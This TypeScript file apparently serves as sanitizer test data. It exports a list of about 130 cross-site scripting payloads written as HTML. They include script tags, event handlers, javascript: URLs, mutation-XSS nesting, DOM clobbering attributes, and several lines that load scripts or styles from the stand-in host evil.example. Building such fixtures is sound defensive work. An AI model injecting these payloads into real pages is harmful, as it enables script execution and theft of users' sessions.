/** Attacks written as HTML, one to a line. */
export const attacksInHtml: readonly string[] = String.raw`
<script>alert(1)</script>
<ScRiPt >alert(1)</sCrIpT >
<script/src=//evil.example/x.js></script>
<script x="</script>">alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert(1)
</script><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img/src/onerror=alert(1)>
<img src="x" onerror	=alert(1)>
<img src=x:x onerror=alert(1)//
<img """><script>alert(1)</script>">
<img src="javascript:alert(1)">
<img src=/files/a.png onerror=alert(1)>
<img src="/files/a.png"onerror="alert(1)">
<img srcset="x 1x" src=/files/a.png>
<img src=/files/a.png style="background:url(javascript:alert(1))">
<img src=/files/a.png usemap=#x name=getElementById id=cookie>
<img dynsrc=javascript:alert(1)>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><style><img title="</style><img src=x onerror=alert(1)>"></title></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe><img src=x onerror=alert(1)></iframe>
<iframe src=https://example.com onload=alert(1)>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<applet code=x></applet>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example/x.html>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(javascript:alert(1))}</style>
<style><!--</style><script>alert(1)//--></script>
<p style="background:url(//evil.example/x)">a</p>
<p style="width:expression(alert(1))">a</p>
<p style="-moz-binding:url(//evil.example/x.xml#x)">a</p>
<p onclick=alert(1) onmouseover=alert(1)>a</p>
<p id=cookie name=forms class=admin data-x=1>a</p>
<h1 id=getElementById>a</h1>
<h2 id="h-a onclick=alert(1)">a</h2>
<a href=javascript:alert(1)>a</a>
<a href="java&#10;script:alert(1)">a</a>
<a href=" &#14; javascript:alert(1)">a</a>
<a href="&#x6A;avascript&colon;alert(1)">a</a>
<a href=data:text/html,x>a</a>
<a href=//evil.example>a</a>
<a href="/\evil.example">a</a>
<a href=https://example.com target=_top rel=opener ping=//evil.example download>a</a>
<a href=https://example.com onclick=alert(1) style=x id=forms name=cookie>a</a>
<a class=mention href=javascript:alert(1)>a</a>
<a class="mention admin" href=https://evil.example>a</a>
<a class=mention href=//evil.example/user/control/home?userName=a>a</a>
<a href="https://example.com"><a href="javascript:alert(1)">a</a></a>
<form action=javascript:alert(1)><input type=submit></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>a</button>
<input type=image src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=checkbox onclick=alert(1)>
<input type=checkbox disabled name=attributes form=x>
<input type=text value=x>
<textarea><img src=x onerror=alert(1)></textarea>
<textarea></textarea/><img src=x onerror=alert(1)>
<select onfocus=alert(1) autofocus><option>&lt;script&gt;alert(1)&lt;/script&gt;</option></select>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>a</details>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>a</marquee>
<body onload=alert(1)>
<html><head><title>a</title></head><body onpageshow=alert(1)>
<table background=javascript:alert(1)><tr><td background=//evil.example/x>a</td></tr></table>
<table><caption><svg><title><style></table></title></style><img src=x onerror=alert(1)>
<td align="center onclick=alert(1)">a</td>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<x-element is=x onclick=alert(1)>a</x-element>
<isindex type=image src=1 onerror=alert(1)>
<bgsound src=javascript:alert(1)>
<layer src=//evil.example/x.js></layer>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>
<!--><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<pre data-language="&quot;><script>alert(1)</script>" tabindex=1>a</pre>
<code class="hljs language-js admin">a</code>
<span class="hljs-x evil" style=x>a</span>
<div class=table-scroll onscroll=alert(1) tabindex=5>a</div>
<ol start="1 onclick=alert(1)"><li>a</li></ol>
<label for=x onclick=alert(1)>a</label>
<p/onclick=alert(1)>a
<p =onclick=alert(1)>a
<p a"b=c onclick=alert(1)>a
<p __proto__=x constructor=y>a</p>
<__proto__ onclick=alert(1)>a</__proto__>
<a href="https://example.com/&lt;script&gt;">a</a>
<a title="&lt;/a&gt;&lt;script&gt;alert(1)&lt;/script&gt;" href=https://example.com>a</a>
`
  .trim()
  .split('\n');
